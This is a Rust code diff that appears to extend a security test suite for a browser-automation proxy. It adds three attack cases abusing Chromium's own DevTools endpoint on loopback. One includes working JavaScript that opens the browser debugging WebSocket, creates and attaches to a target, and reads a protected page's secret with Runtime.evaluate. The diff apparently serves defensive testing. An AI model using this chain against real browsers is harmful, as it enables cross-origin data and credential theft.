@@ -195,6 +195,10 @@ pub fn all() -> Vec<Attack> {
         A::new("c7.response-body-race", "Network.getResponseBody and streamResourceContent, sent over and over (four at a time) on the id of an ordinary request from its start, while a slow ordinary redirect takes it to a vault script", response_body_race).tries(3),
         A::new("c7.resource-content-before-attach", "the client makes a target on a page running a vault script through an ordinary redirect and attaches once it ran: Page.getResourceContent", resource_content_before_attach),
         A::new("c7.image-sw-opaque", "the client's same-site page registers its own service worker, which answers an ordinary image URL with a no-cors fetch of the extra origin's image (the user's cookie goes with it): Page.captureScreenshot", image_sw_opaque),
+        // session 9: the browser's own DevTools endpoint as a page of the client's
+        A::new("c7.devtools-endpoint-page", "a tab on the browser's own DevTools endpoint (http://127.0.0.1:<port>/json/version): on that origin the page's script opens the browser WebSocket, with no guard, and reads the vault", devtools_endpoint_page),
+        A::new("c7.devtools-endpoint-hop", "the client's page goes through an ordinary redirect to the browser's own DevTools endpoint, whose page opens the browser WebSocket and reads the vault", devtools_endpoint_hop),
+        A::new("c7.devtools-endpoint-localhost", "a tab on http://localhost:<port>/json/list (the endpoint by another name: no WebSocket there, but every tab's URL, the vault's among them)", devtools_endpoint_localhost),
         // session 8, helper commits: documents committing, the proxy's surfaces
         A::new("c5.json-list-opener-left", "/json/list lists the about:blank popup a vault page titled, once the vault tab went to an ordinary page", json_list_opener_left),
         A::new("c5.json-list-opener-closed", "/json/list lists the about:blank popup a vault page titled, once the vault tab is closed", json_list_opener_closed),
@@ -3766,6 +3770,87 @@ fn flood_env(name: &str, default: u64) -> u64 {
         .ok()
         .and_then(|v| v.parse().ok())
         .unwrap_or(default)
+}
+
+/// The browser's own DevTools endpoint, `http://127.0.0.1:<port>` (the attacker learns the port
+/// by scanning loopback from a page, or knows the usual one).
+fn devtools_endpoint(ctx: &Ctx) -> String {
+    ctx.leg
+        .chromium
+        .http_url()
+        .trim_end_matches('/')
+        .to_string()
+}
+
+/// On a page of the browser's DevTools endpoint (session `s`): its script reads
+/// `/json/version`, opens the browser WebSocket (Chromium trusts its own origin), makes a
+/// target on the vault and reads its secret there.
+fn endpoint_page_reads_vault(ctx: &Ctx, s: &str) -> Res {
+    ctx.wait_true(
+        s,
+        "document.readyState === 'complete' && location.port !== ''",
+        10_000,
+    )?;
+    let script = format!(
+        "new Promise((r) => {{ (async () => {{ \
+         const v = await (await fetch('/json/version')).json(); const ws = new WebSocket(v.webSocketDebuggerUrl); \
+         let n = 0; const waits = {{}}; \
+         const call = (method, params, sessionId) => new Promise((res) => {{ const id = ++n; waits[id] = res; ws.send(JSON.stringify({{id, method, params, sessionId}})); }}); \
+         ws.onmessage = (e) => {{ const m = JSON.parse(e.data); if (m.id && waits[m.id]) waits[m.id](m); }}; \
+         await new Promise((res, rej) => {{ ws.onopen = res; ws.onerror = () => rej('the WebSocket failed'); }}); \
+         const t = await call('Target.createTarget', {{url: {vault}}}); \
+         const a = await call('Target.attachToTarget', {{targetId: t.result.targetId, flatten: true}}); \
+         for (let i = 0; i < 50; i++) {{ \
+           const ev = await call('Runtime.evaluate', {{expression: \"(document.getElementById('secret') || {{}}).textContent || ''\", returnByValue: true}}, a.result.sessionId); \
+           const val = ev.result && ev.result.result && ev.result.result.value; \
+           if (val) {{ await call('Target.closeTarget', {{targetId: t.result.targetId}}); return r(val); }} \
+           await new Promise((z) => setTimeout(z, 100)); }} \
+         r('no secret'); }})().catch((e) => r('failed ' + e)); setTimeout(() => r('timeout'), 10000); }})",
+        vault = json!(ctx.vault("/app")),
+    );
+    let got = ctx.eval(s, &script)?;
+    ctx.holds_secret(
+        "the endpoint page's own browser WebSocket",
+        got.as_str().unwrap_or_default(),
+    )
+}
+
+fn devtools_endpoint_page(ctx: &Ctx) -> Res {
+    let (_, s) = ctx.open(&format!("{}/json/version", devtools_endpoint(ctx)))?;
+    endpoint_page_reads_vault(ctx, &s)
+}
+
+fn devtools_endpoint_hop(ctx: &Ctx) -> Res {
+    let (_, s) = client_page(ctx, None)?;
+    let hop = format!(
+        "http://ordinary.test/hop?t={}&to={}",
+        ctx.tag,
+        encode(&format!("{}/json/version", devtools_endpoint(ctx)))
+    );
+    ctx.eval(&s, &format!("location.href = {}; true", json!(hop)))?;
+    endpoint_page_reads_vault(ctx, &s)
+}
+
+fn devtools_endpoint_localhost(ctx: &Ctx) -> Res {
+    let vault = ctx.vault("/app");
+    ctx.user_open(&vault)?;
+    let url = devtools_endpoint(ctx).replace("127.0.0.1", "localhost");
+    let (_, s) = ctx.open(&format!("{url}/json/list"))?;
+    ctx.wait_true(
+        s.as_str(),
+        "document.readyState === 'complete' && location.port !== ''",
+        10_000,
+    )?;
+    let text = ctx.eval(&s, "document.body ? document.body.innerText : ''")?;
+    let text = text.as_str().unwrap_or_default();
+    if text.contains(&ctx.tag) && text.contains("vault") {
+        Ok("the endpoint's /json/list, read as a page, lists the vault's tab".into())
+    } else {
+        Err(Stop::Failed(format!(
+            "the page shows no vault tab: {}",
+            text.chars().take(120).collect::<String>()
+        )))
+    }
 }
 
 fn user_framed_at_attach(ctx: &Ctx) -> Res {
